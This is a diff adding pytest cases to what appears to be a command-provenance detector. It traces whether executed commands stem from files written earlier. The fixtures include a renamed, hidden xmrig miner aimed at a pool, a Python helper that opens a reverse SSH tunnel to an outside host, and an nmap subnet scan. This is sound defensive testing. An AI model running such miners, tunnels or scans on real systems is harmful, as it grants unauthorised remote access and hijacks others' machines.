@@ -566,3 +566,39 @@ def test_script_read_but_not_fed_to_a_shell(run: str) -> None:
 def test_move_into_the_current_folder_keeps_identity() -> None:
     _, f = flow("mv xmrig-6.21.0/xmrig .", "mv xmrig .cache-kw", "./.cache-kw -o pool.example.org:3333")
     assert "xmrig" in names(f)
+
+
+HELPER = ("import subprocess\n\ndef open_tunnel():\n    subprocess.Popen(['ssh', '-fN', '-R', '9000:localhost:22', 'u@198.51.100.30'])\n\n"
+          "def unused():\n    subprocess.run(['nmap', '-sV', '10.0.0.0/24'])\n")
+
+
+@pytest.mark.parametrize("main", ["from net.helpers import open_tunnel\nopen_tunnel()\n",
+                                  "import net.helpers as h\nh.open_tunnel()\n",
+                                  "from net import helpers\nhelpers.open_tunnel()\n"])
+def test_written_module_imported_by_a_running_script(main: str) -> None:
+    _, f = flow(("file", "net/helpers.py", HELPER), ("file", "main.py", main), "python main.py")
+    ssh = next(e for e in execs(f) if e.name == "ssh")
+    assert ssh.reasons == () and ssh.source.decoded_from == "import:net/helpers.py"
+    nmap = next(e for e in execs(f) if e.name == "nmap")  # never named by the importer
+    assert any("does not call" in r for r in nmap.reasons)
+
+
+def test_written_module_not_imported_or_importer_not_run() -> None:
+    events, f = flow(("file", "net/helpers.py", HELPER), ("file", "main.py", "import json\n"), "python main.py")
+    assert "ssh" not in names(f) and write_index(events, "net/helpers.py") in f.mentions
+    _, f = flow(("file", "net/helpers.py", HELPER), ("file", "main.py", "from net.helpers import open_tunnel\n"),
+                "python -m py_compile main.py")
+    assert "ssh" not in names(f)
+
+
+def test_python_dash_m_runs_a_written_module() -> None:
+    _, f = flow(("file", "tools/sync.py", PY_SCRIPT), "python3 -m tools.sync")
+    assert ("203.0.113.6", 9001) in connects(f)
+    _, f = flow(("file", "tools/sync.py", PY_SCRIPT), "python3 -m http.server 8000")
+    assert f.events == ()
+
+
+def test_config_flag_needs_a_config_file_name() -> None:
+    src = "/* see https://198.51.100.40:8443/docs */\nint main(void) { return 0; }\n"
+    _, f = flow(("file", "main.c", src), "gcc -c main.c -o main.o")
+    assert f.events == ()
